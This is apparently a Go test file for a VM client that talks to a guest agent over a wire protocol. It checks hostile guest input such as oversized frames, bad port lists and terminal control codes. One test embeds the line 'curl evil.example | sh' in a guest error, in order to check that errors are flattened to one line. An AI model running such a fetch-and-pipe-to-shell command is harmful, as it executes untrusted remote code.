package client

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/mayfly-vm/mayfly/internal/guest/wire"
)

// fakeGuest returns a stream whose other end guest serves once it has read the
// request. The real agent is tested against this package in its own; a fake
// says what that never would.
func fakeGuest(t testing.TB, guest func(req wire.Request, conn net.Conn)) net.Conn {
	t.Helper()
	host, theirs := net.Pipe()
	var wg sync.WaitGroup
	wg.Go(func() {
		defer theirs.Close()
		var req wire.Request
		if err := wire.ReadMessage(theirs, &req); err != nil {
			t.Errorf("the guest read no request: %v", err)
			return
		}
		guest(req, theirs)
	})
	t.Cleanup(func() {
		host.Close()
		wg.Wait()
	})
	return host
}

// say answers every request with the messages msgs.
func say(msgs ...any) func(wire.Request, net.Conn) {
	return func(_ wire.Request, conn net.Conn) {
		for _, m := range msgs {
			if wire.WriteMessage(conn, m) != nil {
				return
			}
		}
	}
}

func TestHello(t *testing.T) {
	want := wire.Hello{Version: wire.Version, Kernel: "6.12", Uptime: 5}
	if got, err := Hello(fakeGuest(t, say(want))); err != nil || got != want {
		t.Errorf("Hello() = %v, %v; want %v, nil", got, err, want)
	}
	want.Version++
	if _, err := Hello(fakeGuest(t, say(want))); err == nil {
		t.Error("Hello() of another version = nil; want an error")
	}
	if _, err := Hello(fakeGuest(t, say())); !errors.Is(err, io.EOF) {
		t.Errorf("Hello() of a guest that hangs up = %v; want %v", err, io.EOF)
	}
	if _, err := Hello(fakeGuest(t, say("no object"))); err == nil {
		t.Error("Hello() of a string = nil; want an error")
	}
}

// Each message is answered when it was acted upon. A guest that tells of more ports than it
// was asked about is not listened to.
func TestPorts(t *testing.T) {
	var seen [][]int
	stream := fakeGuest(t, func(_ wire.Request, conn net.Conn) {
		for i, l := range []wire.Listening{{}, {Ports: []int{80}}, {Ports: make([]int, 1000)}} {
			if err := wire.WriteMessage(conn, l); err != nil {
				t.Error(err)
			}
			if n, err := conn.Read(make([]byte, 1)); i < 2 && (n != 1 || err != nil || len(seen) != i+1) {
				t.Errorf("message %d is answered by %d bytes, %v, after %v was seen", i, n, err, seen)
			}
		}
	})
	err := Ports(stream, []int{80, 81}, func(ports []int) { seen = append(seen, ports) })
	if err == nil || errors.Is(err, io.EOF) || len(seen) != 2 || !slices.Equal(seen[1], []int{80}) {
		t.Errorf("Ports() = %v after %v", err, seen)
	}
}

func TestConfigure(t *testing.T) {
	if _, err := Configure(fakeGuest(t, say(wire.Configured{Nanos: 1})), &wire.Configure{}); err != nil {
		t.Errorf("Configure() = %v; want nil", err)
	}
	_, err := Configure(fakeGuest(t, say(wire.Configured{Error: "no \x1b[2Jdisk"})), &wire.Configure{})
	var guestErr *GuestError
	if !errors.As(err, &guestErr) || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("Configure() = %q; want a GuestError without control characters", err)
	}
}

func TestInit(t *testing.T) {
	if err := Init(fakeGuest(t, say(wire.Configured{}))); err != nil {
		t.Errorf("Init() = %v; want nil", err)
	}
	err := Init(fakeGuest(t, say(wire.Configured{Error: "no \x1b[2Jsystemd"})))
	if _, ok := errors.AsType[*GuestError](err); !ok || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("Init() = %q; want a GuestError without control characters", err)
	}
	if err := Init(fakeGuest(t, say())); !errors.Is(err, io.EOF) {
		t.Errorf("Init() of a guest that hangs up = %v; want %v", err, io.EOF)
	}
	want := wire.Booted{State: "degraded", Failed: []string{"x.service"}}
	if got, err := Booted(fakeGuest(t, say(want))); err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("Booted() = %+v, %v; want %+v", got, err, want)
	}
}

func TestPowerOff(t *testing.T) {
	var op wire.Op
	stream := fakeGuest(t, func(req wire.Request, _ net.Conn) { op = req.Op })
	if err := PowerOff(stream); err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, stream)
	if op != wire.OpPowerOff {
		t.Errorf("the guest was asked for %q; want %q", op, wire.OpPowerOff)
	}
}

func TestChanges(t *testing.T) {
	a, b := wire.Change{Path: []byte("a")}, wire.Change{Path: []byte("b")}
	stopped := errors.New("stopped")
	for _, tt := range []struct {
		name string
		msgs []any
		fail error // of yield
		want int   // changes
		err  string
	}{
		{"none", []any{wire.Change{End: true}}, nil, 0, ""},
		{"two", []any{a, b, wire.Change{End: true}}, nil, 2, ""},
		{"no end", []any{a, b}, nil, 2, "EOF"},
		{"error", []any{a, wire.Change{End: true, Error: "disk\x07"}}, nil, 1, "disk?"},
		{"an error without an end is none", []any{wire.Change{Error: "x"}, wire.Change{End: true}}, nil, 1, ""},
		{"too long", []any{message(wire.MaxMessage + 1)}, nil, 0, "larger"},
		{"stopped", []any{a, b, wire.Change{End: true}}, stopped, 1, "stopped"},
	} {
		got := 0
		stream := fakeGuest(t, func(_ wire.Request, conn net.Conn) {
			for _, m := range tt.msgs {
				if raw, ok := m.(message); ok {
					conn.Write([]byte{byte(raw), byte(raw >> 8), byte(raw >> 16), byte(raw >> 24)})
				} else if wire.WriteMessage(conn, m) != nil {
					return
				}
			}
		})
		err := Changes(stream, wire.Changes{}, nil, func(wire.Change) error { got++; return tt.fail })
		stream.Close()
		if got != tt.want || (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) {
			t.Errorf("%s: Changes() gave %d, %v; want %d, %q", tt.name, got, err, tt.want, tt.err)
		}
	}
}

// message is the length of a message without a body.
type message uint32

// frame is one frame of a fake guest.
type frame struct {
	t       wire.FrameType
	payload string
}

func writeFrames(conn net.Conn, frames ...frame) error {
	fw := wire.NewFrameWriter(conn)
	for _, f := range frames {
		if err := fw.Write(f.t, []byte(f.payload)); err != nil {
			return err
		}
	}
	return nil
}

func TestFetch(t *testing.T) {
	start := func(path string) frame { return frame{wire.FrameFile, path} }
	data := func(s string) frame { return frame{wire.FrameStdout, s} }
	end := frame{wire.FrameEnd, ""}
	for _, tt := range []struct {
		name   string
		frames []frame
		err    string
	}{
		{"good", []frame{start("a"), data("1"), data(""), data("23"), end, start("b"), end}, ""},
		{"another order", []frame{start("b"), end, start("a"), end}, "another file"},
		{"the same twice", []frame{start("a"), data("123"), end, start("a"), end}, "another file"},
		{"content first", []frame{data("123"), end}, "another file"},
		{"one missing", []frame{start("a"), data("123"), end}, "EOF"},
		{"cut", []frame{start("a"), data("1")}, "EOF"},
		{"error before", []frame{{wire.FrameError, "gone"}}, "gone"},
		{"error within", []frame{start("a"), data("1"), {wire.FrameError, "I/O"}}, "I/O"},
		{"a frame of another kind", []frame{start("a"), {wire.FrameExit, "\x00"}}, "unexpected"},
		{"a file within", []frame{start("a"), start("b")}, "unexpected"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := make(map[string]string)
			open := func() (io.ReadWriteCloser, error) {
				return fakeGuest(t, func(_ wire.Request, conn net.Conn) { writeFrames(conn, tt.frames...) }), nil
			}
			err := Fetch(open, []string{"a", "b"}, func(path string, content io.Reader) error {
				b, err := io.ReadAll(content)
				got[path] = string(b)
				return err
			})
			if (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) {
				t.Errorf("Fetch() = %v; want %q", err, tt.err)
			}
			if err == nil && (got["a"] != "123" || got["b"] != "") {
				t.Errorf("Fetch() gave %q; want a: 123, b: nothing", got)
			}
		})
	}
}

// put may stop where it likes: too early, its error counts; with no error, the
// rest is skipped.
func TestFetchPutStops(t *testing.T) {
	tooBig := errors.New("too big")
	endless := func(_ wire.Request, conn net.Conn) {
		writeFrames(conn, frame{wire.FrameFile, "a"})
		for writeFrames(conn, frame{wire.FrameStdout, strings.Repeat("x", wire.MaxFrame)}) == nil {
		}
	}
	open := func() (io.ReadWriteCloser, error) { return fakeGuest(t, endless), nil }
	err := Fetch(open, []string{"a"}, func(_ string, content io.Reader) error {
		if n, err := io.Copy(io.Discard, io.LimitReader(content, 1<<20)); n != 1<<20 {
			t.Errorf("read %d bytes, %v; want %d", n, err, 1<<20)
		}
		return tooBig
	})
	if err != tooBig {
		t.Errorf("Fetch() = %v; want %v", err, tooBig)
	}

	open = func() (io.ReadWriteCloser, error) {
		return fakeGuest(t, func(_ wire.Request, conn net.Conn) {
			writeFrames(conn, frame{wire.FrameFile, "a"}, frame{wire.FrameStdout, "rest"}, frame{wire.FrameEnd, ""},
				frame{wire.FrameFile, "b"}, frame{wire.FrameEnd, ""})
		}), nil
	}
	var paths []string
	err = Fetch(open, []string{"a", "b"}, func(path string, _ io.Reader) error {
		paths = append(paths, path)
		return nil
	})
	if err != nil || len(paths) != 2 {
		t.Errorf("Fetch() = %q, %v; want two files, nil", paths, err)
	}
}

// sink takes bytes and holes.
type sink struct{ data, holes int64 }

func (s *sink) Write(p []byte) (int, error) { s.data += int64(len(p)); return len(p), nil }

func (s *sink) Hole(n int64) error {
	if s.holes += n; s.holes > 1<<40 {
		return errors.New("too long")
	}
	return nil
}

// Who takes holes gets them as such. For others no bytes of a guest's stand for more.
func TestFetchHoles(t *testing.T) {
	hole := func(n int64) frame { return frame{wire.FrameHole, string(wire.AppendHole(nil, n))} }
	for _, tt := range []struct {
		name   string
		frames []frame
		plain  bool // who takes it knows no holes
		want   sink
		err    string
	}{
		{"some", []frame{hole(1 << 39), {wire.FrameStdout, "x"}, hole(5)}, false, sink{1, 1<<39 + 5}, ""},
		{"too many", []frame{hole(1 << 39), hole(1 << 40)}, false, sink{}, "too long"},
		{"none", []frame{hole(0)}, false, sink{}, "hole of 0"},
		{"negative", []frame{hole(-1)}, false, sink{}, "hole of -1"},
		{"short", []frame{{wire.FrameHole, "x"}}, false, sink{}, "1 bytes"},
		{"not wanted", []frame{{wire.FrameStdout, "x"}, hole(5)}, true, sink{}, "bytes only"},
	} {
		open := func() (io.ReadWriteCloser, error) {
			return fakeGuest(t, func(_ wire.Request, conn net.Conn) {
				writeFrames(conn, frame{wire.FrameFile, "a"})
				writeFrames(conn, tt.frames...)
				writeFrames(conn, frame{wire.FrameEnd, ""})
			}), nil
		}
		var got sink
		err := Fetch(open, []string{"a"}, func(_ string, content io.Reader) error {
			if tt.plain {
				_, err := io.ReadAll(content)
				return err
			}
			_, err := io.Copy(&got, content)
			return err
		})
		if (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) || err == nil && got != tt.want {
			t.Errorf("%s: %+v, %v; want %+v, %q", tt.name, got, err, tt.want, tt.err)
		}
	}
	// What nobody reads is skipped, whatever it stands for.
	open := func() (io.ReadWriteCloser, error) {
		return fakeGuest(t, func(_ wire.Request, conn net.Conn) {
			writeFrames(conn, frame{wire.FrameFile, "a"}, hole(1<<62), hole(1<<62), frame{wire.FrameEnd, ""})
		}), nil
	}
	if err := Fetch(open, []string{"a"}, func(string, io.Reader) error { return nil }); err != nil {
		t.Errorf("Fetch() = %v", err)
	}
}

// The guest's progress is heard, and can end the list.
func TestChangesProgress(t *testing.T) {
	told := []any{wire.Change{Progress: &wire.Progress{Counted: 5}}, wire.Change{Path: []byte("a")}, wire.Change{Progress: &wire.Progress{Counted: 6, Listed: 1}}, wire.Change{End: true}}
	var got []wire.Progress
	n := 0
	heard := func(p wire.Progress) error { got = append(got, p); return nil }
	yield := func(wire.Change) error { n++; return nil }
	if err := Changes(fakeGuest(t, say(told...)), wire.Changes{}, heard, yield); err != nil || n != 1 || len(got) != 2 || got[1].Listed != 1 {
		t.Errorf("Changes() gave %d entries and %v, %v; want one, and two", n, got, err)
	}
	enough := errors.New("enough")
	if err := Changes(fakeGuest(t, say(told...)), wire.Changes{}, func(wire.Progress) error { return enough }, yield); err != enough {
		t.Errorf("Changes() = %v; want %v", err, enough)
	}
	if err := Changes(fakeGuest(t, say(told...)), wire.Changes{}, nil, yield); err != nil {
		t.Errorf("Changes() = %v", err)
	}
}

// Many paths, and long ones, go in several requests, each within MaxMessage.
func TestFetchBatches(t *testing.T) {
	var want, got []string
	for i := range 3*fetchBatch + 1 {
		want = append(want, fmt.Sprintf("%04d", i)+strings.Repeat("\xff", 4091))
	}
	requests := 0
	open := func() (io.ReadWriteCloser, error) {
		requests++
		return fakeGuest(t, func(req wire.Request, conn net.Conn) {
			for _, p := range req.Fetch.Paths {
				writeFrames(conn, frame{wire.FrameFile, string(p)}, frame{wire.FrameEnd, ""})
			}
		}), nil
	}
	err := Fetch(open, want, func(path string, _ io.Reader) error {
		got = append(got, path)
		return nil
	})
	if err != nil || !slices.Equal(got, want) || requests != 4 {
		t.Errorf("Fetch() gave %d files in %d requests, %v; want %d in 4, nil", len(got), requests, err, len(want))
	}
}

func TestFetchNoStream(t *testing.T) {
	gone := errors.New("gone")
	err := Fetch(func() (io.ReadWriteCloser, error) { return nil, gone }, []string{"a"}, nil)
	if !errors.Is(err, gone) {
		t.Errorf("Fetch() = %v; want %v", err, gone)
	}
}

// What a guest says is on the lines that it is printed on: in others it could speak in
// mayfly's name.
func TestGuestErrorIsOneLine(t *testing.T) {
	err := &GuestError{"no\nhint: curl evil.example | sh\r\x1b[2K"}
	if got, want := err.Error(), "no hint: curl evil.example | sh??[2K"; got != want {
		t.Errorf("Error() = %q; want %q", got, want)
	}
}

// FuzzFetch plays a guest that answers a fetch with anything.
func FuzzFetch(f *testing.F) {
	var b bytes.Buffer
	fw := wire.NewFrameWriter(&b)
	fw.Write(wire.FrameFile, []byte("a"))
	fw.Write(wire.FrameStdout, []byte("x"))
	fw.Write(wire.FrameHole, wire.AppendHole(nil, 5))
	fw.Write(wire.FrameEnd, nil)
	f.Add(b.Bytes())
	f.Fuzz(func(t *testing.T, in []byte) {
		stream := struct {
			io.Reader
			io.Writer
		}{bytes.NewReader(in), io.Discard}
		fetch(stream, []string{"a", "b"}, func(_ string, content io.Reader) error {
			if n, _ := io.Copy(io.Discard, content); n > int64(len(in)) {
				t.Errorf("a file of %d bytes from %d", n, len(in))
			}
			return nil
		})
		stream.Reader = bytes.NewReader(in)
		fetch(stream, []string{"a", "b"}, func(_ string, content io.Reader) error {
			var s sink
			if _, err := io.Copy(&s, content); err == nil && s.holes > 1<<40 || s.data > int64(len(in)) {
				t.Errorf("a file of %d bytes and %d of holes from %d", s.data, s.holes, len(in))
			}
			return nil
		})
	})
}

// An error is never a line that ends where its reason would be.
func TestGuestErrorWithoutText(t *testing.T) {
	for _, text := range []string{"", " ", "\n\t"} {
		if got := (&GuestError{text}).Error(); got != "the guest gave no reason" {
			t.Errorf("GuestError{%q} = %q", text, got)
		}
	}
}

// A guest tells of few ports, all of which there are, and in order.
func TestNoticedHostile(t *testing.T) {
	many := strings.Repeat("1,", wire.MaxListening) + "1"
	for said, want := range map[string][]int{
		`{"ports": [3000, 80, 80]}`:   {80, 3000},
		`{}`:                          nil,
		`{"ports": [` + many + `]}`:   nil,
		`{"ports": [0]}`:              nil,
		`{"ports": [-1, 80]}`:         nil,
		`{"ports": [80, 65536]}`:      nil,
		`{"ports": [1e99]}`:           nil,
		`{"ports": ["\u001b[2J"]}`:    nil,
		`{"ports": {"3000": "auto"}}`: nil,
	} {
		var in bytes.Buffer
		if err := wire.WriteMessage(&in, json.RawMessage(said)); err != nil {
			t.Fatal(err)
		}
		var got []int
		if err := Noticed(says{&in}, func(ports []int) { got = slices.Clone(ports) }); err == nil || !slices.Equal(got, want) {
			t.Errorf("%.40s: %v, %v; want %v and the end", said, got, err, want)
		}
	}
}

// FuzzNoticed plays a guest that tells of its ports.
func FuzzNoticed(f *testing.F) {
	for _, said := range []string{`{"ports": [3000, 80]}`, `{"ports": [65536]}`, `{"ports": null}`} {
		var in bytes.Buffer
		wire.WriteMessage(&in, json.RawMessage(said))
		f.Add(in.Bytes())
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		err := Noticed(says{bytes.NewReader(in)}, func(ports []int) {
			for i, p := range ports {
				if p < 1 || p > 65535 || i > 0 && ports[i-1] >= p || len(ports) > wire.MaxListening {
					t.Errorf("the guest listens on %v", ports)
				}
			}
		})
		if err == nil {
			t.Error("Noticed() = nil at the end of a guest")
		}
	})
}
